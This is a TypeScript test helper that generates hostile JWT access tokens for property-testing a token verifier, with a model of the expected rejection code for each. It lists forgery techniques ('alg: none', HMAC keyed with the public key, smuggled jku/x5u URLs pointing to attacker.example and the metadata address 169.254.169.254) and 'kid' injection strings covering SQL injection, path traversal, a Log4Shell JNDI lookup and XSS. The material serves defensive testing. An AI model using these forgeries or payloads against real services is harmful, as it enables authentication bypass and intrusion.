/**
 * Hostile access tokens for property tests, and a model of the exact answer the verifier owes to
 * each of them. Test-only; shared by the verifier's and the HTTP layer's property tests.
 *
 * The model ({@link expectedVerdict}) is written from the documented rules, with its own decoding
 * (Node's Buffer plus a canonical re-encoding check) and its own signature check (`node:crypto`
 * over the UTF-8 bytes of the signing input), so that it shares no code with the verifier:
 *
 * 1. at most 8192 characters, exactly three segments, header and payload not empty → else
 *    `ERR_JWT_MALFORMED`;
 * 2. the header is canonical base64url of a UTF-8 JSON object with a string `alg` → else
 *    `ERR_JWT_MALFORMED`;
 * 3. `alg` in the allow-list → else `ERR_JWT_ALG_NOT_ALLOWED` (always for `none` and `HS*`);
 * 4. no `crit`, `b64` absent or `true`, `typ` `at+jwt` or `application/at+jwt` in any case, `kid`
 *    a non-empty string → else `ERR_JWT_INVALID`;
 * 5. the signature segment is canonical base64url → else `ERR_JWT_MALFORMED`;
 * 6. a published key has that `kid` and that `alg` → else `ERR_JWKS_NO_MATCHING_KEY`;
 * 7. the signature verifies → else `ERR_JWT_INVALID`;
 * 8. the payload is canonical base64url of a UTF-8 JSON object → else `ERR_JWT_MALFORMED`;
 * 9. claims, in this order: `iss`, `aud` (`ERR_JWT_CLAIM_INVALID`), `exp` a finite number
 *    (`ERR_JWT_CLAIM_INVALID`) not passed beyond the tolerance (`ERR_JWT_EXPIRED`), `nbf` and `iat`
 *    not in the future, `sub`, `jti`, `sid`, `client_id` non-empty strings
 *    (`ERR_JWT_CLAIM_INVALID` naming the claim).
 */
import {
  constants,
  createHash,
  createHmac,
  createPrivateKey,
  createPublicKey,
  generateKeyPairSync,
  type KeyObject,
  sign as nodeSign,
  verify as nodeVerify,
} from 'node:crypto';
import fc from 'fast-check';
import type { KitErrorCode } from '../src/errors.ts';

/** An asymmetric JWS algorithm the kit can sign or verify with. */
export type TokenAlgorithm = 'ES256' | 'ES384' | 'EdDSA' | 'RS256' | 'PS256';

/** A key pair with the public JWK a JWKS would publish for it. */
export interface TokenKey {
  kid: string;
  alg: TokenAlgorithm;
  privateKey: KeyObject;
  publicKey: KeyObject;
  /** Public members plus `kid`, `alg` and `use: "sig"`. */
  jwk: Record<string, unknown>;
}

function tokenKey(privateKey: KeyObject, alg: TokenAlgorithm, kid: string): TokenKey {
  const publicKey = createPublicKey(privateKey);
  return {
    kid,
    alg,
    privateKey,
    publicKey,
    jwk: { ...publicKey.export({ format: 'jwk' }), kid, alg, use: 'sig' },
  };
}

/** Generates a key pair for `alg` (synchronously; RSA keys are 2048 bits). */
export function generateTokenKey(alg: TokenAlgorithm, kid: string): TokenKey {
  const pair =
    alg === 'EdDSA'
      ? generateKeyPairSync('ed25519')
      : alg === 'ES256' || alg === 'ES384'
        ? generateKeyPairSync('ec', { namedCurve: alg === 'ES256' ? 'P-256' : 'P-384' })
        : generateKeyPairSync('rsa', { modulusLength: 2048 });
  return tokenKey(pair.privateKey, alg, kid);
}

/** The key of a private signing JWK (as `generateSigningKeys` makes them). */
export function tokenKeyFromPrivateJwk(jwk: { kid: string; alg: string }): TokenKey {
  const privateKey = createPrivateKey({ key: jwk as never, format: 'jwk' });
  return tokenKey(privateKey, jwk.alg as TokenAlgorithm, jwk.kid);
}

const HASH: Record<TokenAlgorithm, string | null> = {
  ES256: 'sha256',
  ES384: 'sha384',
  EdDSA: null,
  RS256: 'sha256',
  PS256: 'sha256',
};

function keyInput(alg: TokenAlgorithm, key: KeyObject, der = false) {
  if (alg === 'ES256' || alg === 'ES384')
    return { key, dsaEncoding: der ? ('der' as const) : ('ieee-p1363' as const) };
  if (alg === 'PS256') return { key, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 };
  return key;
}

/** Unpadded base64url of a string (UTF-8) or bytes. */
export const b64u = (value: string | Uint8Array): string => Buffer.from(value).toString('base64url');

/** A JWS segment holding JSON. */
export const jsonSegment = (value: unknown): string => b64u(JSON.stringify(value));

/** How a forged token is signed. */
export type Signing =
  | { key: TokenKey; der?: boolean }
  | { hmac: string | Uint8Array; hash: 'sha256' | 'sha384' | 'sha512' }
  | { signature: string };

/** A compact JWS from two encoded segments, signed as `signing` says (over the ASCII input). */
export function jws(header: string, payload: string, signing: Signing): string {
  const input = `${header}.${payload}`;
  let signature: string;
  if ('key' in signing) {
    const { key } = signing;
    signature = b64u(
      nodeSign(HASH[key.alg], Buffer.from(input), keyInput(key.alg, key.privateKey, signing.der) as never),
    );
  } else if ('hmac' in signing) {
    signature = b64u(createHmac(signing.hash, signing.hmac).update(input).digest());
  } else {
    signature = signing.signature;
  }
  return `${input}.${signature}`;
}

// ---------------------------------------------------------------------------------------------
// The model.

/** What a verifier configured like this must do. */
export interface VerifierModel {
  issuer: string;
  audiences: readonly string[];
  algorithms: readonly string[];
  /** The published keys (every one with `alg` and `use: "sig"`). */
  keys: readonly TokenKey[];
  nowMs: number;
  toleranceSeconds: number;
}

/** An outcome: `ok`, or a kit error code (with the claim for `ERR_JWT_CLAIM_INVALID`). */
export interface Verdict {
  code: KitErrorCode | 'ok';
  claim?: string;
}

const BASE64URL = /^[A-Za-z0-9_-]*$/;

/** Strict base64url: the alphabet, no padding, and the one canonical spelling of the bytes. */
function canonicalBytes(segment: string): Buffer | undefined {
  if (!BASE64URL.test(segment) || segment.length % 4 === 1) return undefined;
  const bytes = Buffer.from(segment, 'base64url');
  return bytes.toString('base64url') === segment ? bytes : undefined;
}

const strictUtf8 = new TextDecoder('utf-8', { fatal: true });

function jsonObject(segment: string): Record<string, unknown> | undefined {
  const bytes = canonicalBytes(segment);
  if (!bytes) return undefined;
  try {
    const value: unknown = JSON.parse(strictUtf8.decode(bytes));
    return typeof value === 'object' && value !== null && !Array.isArray(value)
      ? (value as Record<string, unknown>)
      : undefined;
  } catch {
    return undefined;
  }
}

function signatureValid(key: TokenKey, input: string, signature: Buffer): boolean {
  try {
    // RFC 7515 §5.2: the signing input is ASCII. A string with any other character is, as bytes,
    // not what the issuer signed.
    return nodeVerify(
      HASH[key.alg],
      Buffer.from(input, 'utf8'),
      keyInput(key.alg, key.publicKey) as never,
      signature,
    );
  } catch {
    return false;
  }
}

const numericDate = (value: unknown): value is number => typeof value === 'number' && Number.isFinite(value);
const nonEmptyString = (value: unknown) => typeof value === 'string' && value !== '';

/** The exact answer a verifier configured as `m` owes to `token` (see the module comment). */
export function expectedVerdict(token: string, m: VerifierModel): Verdict {
  const malformed: Verdict = { code: 'ERR_JWT_MALFORMED' };
  const invalid: Verdict = { code: 'ERR_JWT_INVALID' };
  if (token.length > 8192) return malformed;
  const parts = token.split('.');
  if (parts.length !== 3 || parts[0] === '' || parts[1] === '') return malformed;
  const [h, p, s] = parts as [string, string, string];
  const header = jsonObject(h);
  if (!header || typeof header.alg !== 'string') return malformed;
  if (!m.algorithms.includes(header.alg)) return { code: 'ERR_JWT_ALG_NOT_ALLOWED' };
  if (header.crit !== undefined) return invalid;
  if (header.b64 !== undefined && header.b64 !== true) return invalid;
  const typ = typeof header.typ === 'string' ? header.typ.toLowerCase() : undefined;
  if (typ !== 'at+jwt' && typ !== 'application/at+jwt') return invalid;
  if (!nonEmptyString(header.kid)) return invalid;
  const signature = canonicalBytes(s);
  if (!signature) return malformed;
  const key = m.keys.find((k) => k.kid === header.kid && k.alg === header.alg);
  if (!key) return { code: 'ERR_JWKS_NO_MATCHING_KEY' };
  if (!signatureValid(key, `${h}.${p}`, signature)) return invalid;
  const claims = jsonObject(p);
  if (!claims) return malformed;

  const claim = (name: string): Verdict => ({ code: 'ERR_JWT_CLAIM_INVALID', claim: name });
  const now = Math.floor(m.nowMs / 1000);
  const tolerance = m.toleranceSeconds;
  if (claims.iss !== m.issuer) return claim('iss');
  const aud = claims.aud;
  const audOk =
    typeof aud === 'string'
      ? m.audiences.includes(aud)
      : Array.isArray(aud) &&
        aud.every((a) => typeof a === 'string') &&
        aud.some((a) => m.audiences.includes(a as string));
  if (!audOk) return claim('aud');
  if (!numericDate(claims.exp)) return claim('exp');
  if (claims.exp <= now - tolerance) return { code: 'ERR_JWT_EXPIRED' };
  if (claims.nbf !== undefined && (!numericDate(claims.nbf) || claims.nbf > now + tolerance))
    return claim('nbf');
  if (!numericDate(claims.iat) || claims.iat > now + tolerance) return claim('iat');
  for (const name of ['sub', 'jti', 'sid', 'client_id']) {
    if (!nonEmptyString(claims[name])) return claim(name);
  }
  return { code: 'ok' };
}

/** The verdict of a verifier call, in the model's terms. */
export async function observedVerdict(
  result: Promise<unknown>,
): Promise<{ verdict: Verdict; error?: unknown }> {
  try {
    await result;
    return { verdict: { code: 'ok' } };
  } catch (error) {
    const e = error as { code?: KitErrorCode; claim?: string };
    const verdict: Verdict = { code: e?.code ?? ('thrown' as KitErrorCode) };
    if (e?.code === 'ERR_JWT_CLAIM_INVALID') verdict.claim = e.claim as string;
    return { verdict, error };
  }
}

// ---------------------------------------------------------------------------------------------
// Generators.

/** Where hostile tokens come from. */
export interface TokenSources {
  model: VerifierModel;
  /** Published keys whose private halves the test holds: the issuer's. */
  issuerKeys: readonly TokenKey[];
  /** Keys the verifier does not publish: an attacker's. */
  attackerKeys: readonly TokenKey[];
  /** Claims valid at the model's time. */
  claims: Record<string, unknown>;
}

/** A hostile token and the name of the generator that made it (for messages). */
export interface BadToken {
  kind: string;
  token: string;
}

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/**
 * Characters that do not belong in a token: padding and standard-alphabet characters, whitespace
 * of every kind, separators, NUL and other controls, zero-width and bidirectional marks, the BOM,
 * lone surrogates, homoglyphs, percent signs.
 */
export const ODD_CHARACTERS: readonly string[] = [
  '=',
  '+',
  '/',
  '.',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\u000b',
  '\u0000',
  '\u007f',
  '\u00a0',
  '\u00e9',
  '\u0141',
  '\u200b',
  '\u200e',
  '\u200f',
  '\u202e',
  '\u2028',
  '\u2066',
  '\ufeff',
  '\uff21',
  '\ud800',
  '\udfff',
  '\ud83d\udca5',
  '%',
  '%41',
  '"',
  "'",
  '\\',
];

/** Every UTF-16 code unit, lone surrogates included, weighted towards the odd ones above. */
export const anyCodeUnit: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)) },
  { weight: 1, arbitrary: fc.constantFrom(...ODD_CHARACTERS) },
  { weight: 2, arbitrary: fc.constantFrom(...ALPHABET) },
);

/** Arbitrary text: printable ASCII, or any code units (lone surrogates, NUL, RTL marks...). */
export const garbageText = (maxLength = 300): fc.Arbitrary<string> =>
  fc.oneof(fc.string({ maxLength }), fc.string({ unit: anyCodeUnit, maxLength }));

/**
 * Mutations of a valid compact JWS: truncations, deletions, insertions of odd characters, bit
 * flips of characters and of decoded bytes, characters whose low byte equals the original, case
 * changes, re-encodings (standard base64, padding, trailing bits, whitespace, line breaks), segment
 * games (swap, drop, repeat, JWE-like five segments), a DER-encoded ECDSA signature, a re-spelt
 * header. A mutation that leaves the token unchanged is filtered out.
 */
export function mutatedTokenArb(valid: readonly string[], signer: TokenKey): fc.Arbitrary<BadToken> {
  const source = fc.constantFrom(...valid);
  type Mutation = { kind: string; apply: (token: string) => string };
  const at = (token: string, i: number) => i % Math.max(token.length, 1);
  const seg = (token: string) => token.split('.') as [string, string, string];
  const mutations: fc.Arbitrary<Mutation>[] = [
    fc.nat().map((i) => ({ kind: 'truncate', apply: (t) => t.slice(0, at(t, i)) })),
    fc.nat().map((i) => ({ kind: 'delete', apply: (t) => t.slice(0, at(t, i)) + t.slice(at(t, i) + 1) })),
    fc.tuple(fc.nat(), fc.constantFrom(...ODD_CHARACTERS, 'A', '-', '_')).map(([i, c]) => ({
      kind: `insert ${JSON.stringify(c)}`,
      apply: (t) => t.slice(0, at(t, i)) + c + t.slice(at(t, i)),
    })),
    fc.tuple(fc.nat(), fc.nat({ max: 5 })).map(([i, bit]) => ({
      kind: 'flip a character bit',
      apply: (t) => {
        const j = at(t, i);
        const v = ALPHABET.indexOf(t[j]!);
        return v < 0 ? t : t.slice(0, j) + ALPHABET[v ^ (1 << bit)] + t.slice(j + 1);
      },
    })),
    fc.tuple(fc.nat({ max: 2 }), fc.nat(), fc.nat({ max: 7 })).map(([which, i, bit]) => ({
      kind: `flip a decoded bit of segment ${which}`,
      apply: (t) => {
        const parts = seg(t);
        const bytes = Buffer.from(parts[which]!, 'base64url');
        if (bytes.length === 0) return t;
        bytes[i % bytes.length]! ^= 1 << bit;
        parts[which] = b64u(bytes);
        return parts.join('.');
      },
    })),
    // Same low byte, other character: `Ł` (U+0141) is `A` in Latin-1 truncation.
    fc.tuple(fc.nat(), fc.integer({ min: 1, max: 0xff })).map(([i, high]) => ({
      kind: 'same low byte',
      apply: (t) => {
        const j = at(t, i);
        return t.slice(0, j) + String.fromCharCode((high << 8) | t.charCodeAt(j)) + t.slice(j + 1);
      },
    })),
    fc.nat().map((i) => ({
      kind: 'swap case',
      apply: (t) => {
        const j = at(t, i);
        const c = t[j]!;
        const swapped = c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase();
        return t.slice(0, j) + swapped + t.slice(j + 1);
      },
    })),
    fc.constantFrom<Mutation>(
      { kind: 'upper case', apply: (t) => t.toUpperCase() },
      { kind: 'lower case', apply: (t) => t.toLowerCase() },
      { kind: 'standard base64', apply: (t) => t.replaceAll('-', '+').replaceAll('_', '/') },
      {
        kind: 'standard base64 signature',
        apply: (t) => {
          const [h, p, s] = seg(t);
          return `${h}.${p}.${Buffer.from(s, 'base64url').toString('base64')}`;
        },
      },
      { kind: 'leading space', apply: (t) => ` ${t}` },
      { kind: 'trailing newline', apply: (t) => `${t}\n` },
      { kind: 'quoted', apply: (t) => `"${t}"` },
      { kind: 'line-folded', apply: (t) => t.replaceAll('.', '.\r\n ') },
      { kind: 'segments swapped', apply: (t) => seg(t).reverse().join('.') },
      { kind: 'header and payload swapped', apply: (t) => ((s) => `${s[1]}.${s[0]}.${s[2]}`)(seg(t)) },
      { kind: 'signature dropped', apply: (t) => ((s) => `${s[0]}.${s[1]}.`)(seg(t)) },
      { kind: 'two segments', apply: (t) => ((s) => `${s[0]}.${s[1]}`)(seg(t)) },
      { kind: 'payload dropped', apply: (t) => ((s) => `${s[0]}..${s[2]}`)(seg(t)) },
      { kind: 'header dropped', apply: (t) => ((s) => `.${s[1]}.${s[2]}`)(seg(t)) },
      { kind: 'four segments', apply: (t) => `${t}.${seg(t)[2]}` },
      { kind: 'five segments (JWE-like)', apply: (t) => `${t}..AAAA` },
      { kind: 'doubled', apply: (t) => `${t}${t}` },
      { kind: 'doubled with a dot', apply: (t) => `${t}.${t}` },
      { kind: 'over 8 KiB', apply: (t) => `${t}${'A'.repeat(8200)}` },
      {
        kind: 'non-zero trailing bits',
        apply: (t) => {
          const [h, p, s] = seg(t);
          if (s.length % 4 === 0) return t;
          const last = ALPHABET.indexOf(s.at(-1)!);
          return `${h}.${p}.${s.slice(0, -1)}${ALPHABET[last | 1]}`;
        },
      },
      {
        kind: 'DER signature',
        apply: (t) => {
          if (signer.alg !== 'ES256' && signer.alg !== 'ES384') return t;
          const [h, p] = seg(t);
          return jws(h, p, { key: signer, der: true });
        },
      },
      {
        kind: 'header re-spelt, signature kept',
        apply: (t) => {
          const [h, p, s] = seg(t);
          return `${b64u(JSON.stringify(JSON.parse(Buffer.from(h, 'base64url').toString()), null, 1))}.${p}.${s}`;
        },
      },
    ),
    fc.tuple(fc.nat({ max: 2 }), fc.constantFrom('=', '==', '===', '====')).map(([which, pad]) => ({
      kind: `padding on segment ${which}`,
      apply: (t) => {
        const parts = seg(t);
        parts[which] += pad;
        return parts.join('.');
      },
    })),
  ];
  return fc
    .tuple(source, fc.oneof(...mutations))
    .map(([token, m]) => ({ kind: `mutation: ${m.kind}`, token: m.apply(token), original: token }))
    .filter((c) => c.token !== c.original)
    .map(({ kind, token }) => ({ kind, token }));
}

/** Arbitrary strings and token-shaped garbage. */
export function garbageTokenArb(): fc.Arbitrary<BadToken> {
  const b64 = fc.string({ unit: fc.constantFrom(...ALPHABET), maxLength: 120 });
  return fc.oneof(
    garbageText().map((token) => ({ kind: 'garbage text', token })),
    fc.tuple(b64, b64, b64).map((s) => ({ kind: 'three base64url segments', token: s.join('.') })),
    fc
      .tuple(fc.jsonValue({ maxDepth: 2 }), fc.jsonValue({ maxDepth: 2 }), b64)
      .map(([h, p, s]) => ({ kind: 'JSON segments', token: `${jsonSegment(h)}.${jsonSegment(p)}.${s}` })),
    fc
      .tuple(fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 4 }), b64)
      .map(([h, s]) => ({
        kind: 'random header',
        token: `${jsonSegment({ typ: 'at+jwt', ...h })}.${jsonSegment({})}.${s}`,
      })),
  );
}

const EVIL_URL = fc.constantFrom(
  'https://attacker.example/.well-known/jwks.json',
  'http://127.0.0.1:1/jwks.json',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'data:application/json,{"keys":[]}',
);

const KID_INJECTIONS = [
  '../../../../etc/passwd',
  '../../dev/null',
  '/dev/zero',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  "x' OR '1'='1",
  "'; DROP TABLE kit_sessions; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  '%00',
  '\u0000',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, meant literally.
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '\u202egnp.kid',
];

/**
 * Forged and hostile headers over valid claims: `alg: none` in every spelling, HS256/384/512
 * keyed with the public key (its JWK, its thumbprint input, PEM and DER SPKI, its `x`), unknown
 * and odd algorithm names, `kid` paths and injections (SQL, path traversal, very long, NUL, a
 * near miss of the real kid, the kid of another key), key smuggling (`jwk`, `jku`, `x5u`, `x5c`)
 * signed by an attacker, `crit`, `b64`, wrong `typ`, nested JWTs (`cty: JWT`).
 */
export function forgedHeaderArb(src: TokenSources): fc.Arbitrary<BadToken> {
  const issuer = fc.constantFrom(...src.issuerKeys);
  const attacker = fc.constantFrom(...src.attackerKeys);
  const payload = jsonSegment(src.claims);
  const header = (key: TokenKey, extra: Record<string, unknown>) => {
    const h: Record<string, unknown> = { alg: key.alg, kid: key.kid, typ: 'at+jwt', ...extra };
    for (const name of Object.keys(h)) if (h[name] === undefined) delete h[name];
    return jsonSegment(h);
  };
  const signed = (kind: string, key: TokenKey, extra: Record<string, unknown>, by: TokenKey = key) => ({
    kind,
    token: jws(header(key, extra), payload, { key: by }),
  });
  const hmacSecrets = (key: TokenKey): (string | Uint8Array)[] => {
    const jwk = key.jwk;
    const members =
      key.alg.startsWith('RS') || key.alg.startsWith('PS') ? ['e', 'kty', 'n'] : ['crv', 'kty', 'x', 'y'];
    const thumbprintInput = JSON.stringify(
      Object.fromEntries(members.filter((m) => m in jwk).map((m) => [m, jwk[m]])),
    );
    return [
      JSON.stringify(jwk),
      thumbprintInput,
      key.publicKey.export({ type: 'spki', format: 'pem' }) as string,
      key.publicKey.export({ type: 'spki', format: 'der' }),
      String(jwk.x ?? jwk.n),
      JSON.stringify({ keys: [jwk] }),
      '',
    ];
  };

  // The kid of another published key (of the same or another algorithm), signed by this one.
  const pairs = src.issuerKeys.flatMap((key) =>
    src.model.keys.filter((k) => k !== key).map((other) => [key, other] as const),
  );
  const otherKid = pairs.length
    ? [
        fc
          .constantFrom(...pairs)
          .map(([key, other]) => signed(`kid of another key (${other.kid})`, key, { kid: other.kid })),
      ]
    : [];

  return fc.oneof(
    ...otherKid,
    fc
      .tuple(issuer, fc.constantFrom('none', 'None', 'NONE', 'nOnE'), fc.constantFrom('', 'AAAA', 'c2ln'))
      .map(([key, alg, signature]) => ({
        kind: `alg ${alg}`,
        token: jws(header(key, { alg }), payload, { signature }),
      })),
    fc.tuple(issuer, fc.constantFrom('HS256', 'HS384', 'HS512'), fc.nat()).map(([key, alg, i]) => {
      const secrets = hmacSecrets(key);
      const hash = `sha${alg.slice(2)}` as 'sha256' | 'sha384' | 'sha512';
      return {
        kind: `${alg} keyed with the public key (form ${i % secrets.length})`,
        token: jws(header(key, { alg }), payload, { hmac: secrets[i % secrets.length]!, hash }),
      };
    }),
    fc
      .tuple(
        issuer,
        fc.constantFrom<unknown>(
          'ES256 ',
          ' ES256',
          'es256',
          'ES256\u0000',
          'ES512',
          'RS512',
          'PS384',
          'Ed25519',
          'Ed448',
          'ECDH-ES',
          'dir',
          'RSA-OAEP',
          '__proto__',
          'constructor',
          'toString',
          '',
          null,
          1,
          ['ES256'],
          {},
          true,
        ),
      )
      .map(([key, alg]) => signed(`alg ${JSON.stringify(alg)}`, key, { alg })),
    fc
      .tuple(
        issuer,
        fc.oneof(
          fc.constantFrom<unknown>(...KID_INJECTIONS, '', null, 7, ['kid'], {}),
          fc.integer({ min: 100, max: 9000 }).map((n) => 'k'.repeat(n)),
        ),
      )
      .map(([key, kid]) => signed('kid injection', key, { kid })),
    fc
      .tuple(issuer, fc.constantFrom(' ', '\u0000', '\u200f', '/', '/../'), fc.boolean())
      .map(([key, extra, before]) =>
        signed('near miss of the real kid', key, {
          kid: before ? `${extra}${key.kid}` : `${key.kid}${extra}`,
        }),
      ),
    fc.tuple(issuer, attacker, fc.constantFrom('attacker', 'issuer', 'none')).map(([key, evil, kidOf]) =>
      signed(`signed by an unknown key, kid of the ${kidOf}`, evil, {
        kid: kidOf === 'attacker' ? evil.kid : kidOf === 'issuer' ? key.kid : undefined,
      }),
    ),
    fc
      .tuple(
        issuer,
        attacker,
        fc.constantFrom('attacker', 'issuer', 'none'),
        fc.subarray(['jwk', 'jku', 'x5u', 'x5c', 'x5t'] as const, { minLength: 1 }),
        EVIL_URL,
      )
      .map(([key, evil, kidOf, members, url]) => {
        const extra: Record<string, unknown> = {
          kid: kidOf === 'attacker' ? evil.kid : kidOf === 'issuer' ? key.kid : undefined,
        };
        const der = evil.publicKey.export({ type: 'spki', format: 'der' });
        for (const name of members) {
          if (name === 'jwk') extra.jwk = evil.jwk;
          if (name === 'jku' || name === 'x5u') extra[name] = url;
          if (name === 'x5c') extra.x5c = [der.toString('base64')];
          if (name === 'x5t') extra.x5t = b64u(createHash('sha1').update(der).digest());
        }
        return signed(`${members.join('+')} smuggled, kid of the ${kidOf}`, evil, extra);
      }),
    fc
      .tuple(
        issuer,
        fc.constantFrom<unknown>(['exp'], ['b64'], [], ['jku'], ['kid'], 'exp', null, 0),
        fc.constantFrom<unknown>(undefined, false, true),
      )
      .map(([key, crit, b64]) => signed('crit', key, { crit, b64 })),
    fc
      .tuple(issuer, fc.constantFrom<unknown>(false, 'false', 0, null, 'true'))
      .map(([key, b64]) => signed(`b64 ${JSON.stringify(b64)}`, key, { b64 })),
    fc
      .tuple(
        issuer,
        fc.constantFrom<unknown>(
          'JWT',
          'jwt',
          'at+jwt ',
          ' at+jwt',
          'at+jwt\u0000',
          'at+jwt\u200f',
          'application/jwt',
          'application/at+jwt; charset=utf-8',
          'id_token+jwt',
          'logout+jwt',
          'secevent+jwt',
          'dpop+jwt',
          'at+jws',
          'at-jwt',
          '',
          undefined,
          null,
          1,
          ['at+jwt'],
        ),
      )
      .map(([key, typ]) => signed(`typ ${JSON.stringify(typ)}`, key, { typ })),
    fc
      .tuple(issuer, fc.constantFrom('raw', 'JSON string', 'JSON object'), fc.constantFrom('at+jwt', 'JWT'))
      .map(([key, form, typ]) => {
        // The inner token is itself valid: a verifier that unwrapped `cty: JWT` would accept it.
        const inner = jws(header(key, {}), payload, { key });
        const p =
          form === 'raw'
            ? b64u(inner)
            : form === 'JSON string'
              ? jsonSegment(inner)
              : jsonSegment({ jwt: inner });
        return {
          kind: `nested JWT (${form}), typ ${typ}`,
          token: jws(header(key, { cty: 'JWT', typ }), p, { key }),
        };
      }),
  );
}

/** A raw JSON value, written as is into a payload (for `1e999` and duplicated members). */
interface RawJson {
  raw: string;
}
const raw = (text: string): RawJson => ({ raw: text });
const isRaw = (value: unknown): value is RawJson =>
  typeof value === 'object' && value !== null && 'raw' in value && Object.keys(value).length === 1;

/**
 * Bad claims signed by an issuer key under a correct header: wrong `iss`/`aud` (near misses,
 * types, arrays), expired, not yet valid (`nbf`), issued in the future, missing or empty `sub`,
 * `jti`, `sid`, `client_id`, duplicated members, and payloads that are not JSON objects (arrays,
 * strings, invalid JSON or UTF-8, non-canonical base64url). One to three defects at once.
 */
export function badClaimsArb(src: TokenSources): fc.Arbitrary<BadToken> {
  const { issuer: iss } = src.model;
  const aud = src.model.audiences[0]!;
  const now = Math.floor(src.model.nowMs / 1000);
  const tol = src.model.toleranceSeconds;
  const OMIT = Symbol('omit');
  const wrongTypes = [null, 1, true, [], {}];
  const defects: Record<string, fc.Arbitrary<unknown>> = {
    iss: fc.constantFrom(
      'https://attacker.example',
      `${iss}/`,
      iss.toUpperCase(),
      ` ${iss}`,
      `${iss}\u0000`,
      `\u202e${iss}`,
      iss.replace('https', 'http'),
      [iss],
      '',
      OMIT,
      ...wrongTypes,
    ),
    aud: fc.constantFrom(
      'https://attacker.example',
      `${aud}/`,
      aud.toUpperCase(),
      `${aud}\u200b`,
      [],
      ['https://attacker.example'],
      [aud, 1],
      [[aud]],
      { aud },
      '',
      OMIT,
      null,
      7,
    ),
    exp: fc.oneof(
      // `exp` exactly at the edge of the tolerance is expired (RFC 7519 §4.1.4: "on or after").
      fc.constantFrom(now - tol, now - tol - 1),
      fc.integer({ min: 0, max: 10 ** 7 }).map((k) => now - tol - k),
      fc.constantFrom<unknown>(String(now + 300), null, true, [now + 300], OMIT, raw('1e999'), raw('-1e999')),
    ),
    nbf: fc.oneof(
      fc.constant(now + tol + 1),
      fc.integer({ min: 1, max: 10 ** 7 }).map((k) => now + tol + k),
      fc.constantFrom<unknown>('0', null, [0], raw('1e999')),
    ),
    iat: fc.oneof(
      fc.constant(now + tol + 1),
      fc.integer({ min: 1, max: 10 ** 7 }).map((k) => now + tol + k),
      fc.constantFrom<unknown>(String(now), null, OMIT, raw('1e999')),
    ),
    sub: fc.constantFrom<unknown>('', OMIT, 42, null, ['user'], {}),
    jti: fc.constantFrom<unknown>('', OMIT, 42, null, ['jti']),
    sid: fc.constantFrom<unknown>('', OMIT, 42, null, [String(src.claims.sid)]),
    client_id: fc.constantFrom<unknown>('', OMIT, 42, null, ['web']),
  };
  const defectArb = fc.oneof(
    ...Object.entries(defects).map(([name, value]) => value.map((v) => [name, v] as const)),
  );
  const payloadText = (entries: [string, unknown][]) =>
    `{${entries
      .filter(([, v]) => v !== OMIT)
      .map(([k, v]) => `${JSON.stringify(k)}:${isRaw(v) ? v.raw : JSON.stringify(v)}`)
      .join(',')}}`;
  const claimsArb = fc.array(defectArb, { minLength: 1, maxLength: 3 }).map((list) => {
    const claims = new Map<string, unknown>(Object.entries(src.claims));
    for (const [name, value] of list) claims.set(name, value);
    return {
      kind: `claims ${list.map(([n]) => n).join('+')}`,
      text: payloadText([...claims]),
    };
  });
  const validText = JSON.stringify(src.claims);
  const payloads = fc.oneof(
    claimsArb.map(({ kind, text }) => ({ kind, segment: b64u(text) })),
    fc.constantFrom('iss', 'aud', 'sub', 'sid', 'exp').map((name) => {
      // A duplicated member whose last (winning) value is wrong.
      const evil: Record<string, unknown> = {
        iss: 'https://attacker.example',
        aud: 'x',
        sub: '',
        sid: '',
        exp: 1,
      };
      return {
        kind: `duplicated ${name}`,
        segment: b64u(`${validText.slice(0, -1)},${JSON.stringify(name)}:${JSON.stringify(evil[name])}}`),
      };
    }),
    fc.constantFrom(
      { kind: 'payload is an array', segment: b64u(`[${validText}]`) },
      { kind: 'payload is a string', segment: jsonSegment(validText) },
      { kind: 'payload is a number', segment: b64u('300') },
      { kind: 'payload is null', segment: b64u('null') },
      { kind: 'payload is cut JSON', segment: b64u(validText.slice(0, -1)) },
      { kind: 'payload with trailing junk', segment: b64u(`${validText}x`) },
      { kind: 'payload with NaN', segment: b64u(validText.replace(/"exp":\d+/, '"exp":NaN')) },
      {
        kind: 'payload is not UTF-8',
        segment: b64u(
          Buffer.concat([
            Buffer.from(validText.slice(0, -1)),
            Buffer.from([0x2c, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]),
          ]),
        ),
      },
      {
        kind: 'payload padded',
        segment: `${b64u(validText)}${'='.repeat((4 - (b64u(validText).length % 4)) % 4 || 4)}`,
      },
      { kind: 'payload in standard base64', segment: Buffer.from(`${validText} ??>`).toString('base64') },
    ),
  );
  return fc.tuple(fc.constantFrom(...src.issuerKeys), payloads).map(([key, { kind, segment }]) => ({
    kind,
    token: jws(jsonSegment({ alg: key.alg, kid: key.kid, typ: 'at+jwt' }), segment, { key }),
  }));
}

/** Every kind of hostile access token above, mixed. */
export function badAccessTokenArb(src: TokenSources, valid: readonly string[]): fc.Arbitrary<BadToken> {
  return fc.oneof(
    { weight: 3, arbitrary: mutatedTokenArb(valid, src.issuerKeys[0]!) },
    { weight: 3, arbitrary: forgedHeaderArb(src) },
    { weight: 2, arbitrary: badClaimsArb(src) },
    { weight: 1, arbitrary: garbageTokenArb() },
  );
}

/**
 * The pieces of a token that must never come back in an answer or an error: the token itself and
 * every one of its segments of at least 8 characters.
 */
export function secretPieces(token: string): string[] {
  const pieces = new Set<string>();
  if (token.length >= 8) pieces.add(token);
  for (const part of token.split('.')) if (part.length >= 8) pieces.add(part);
  return [...pieces];
}
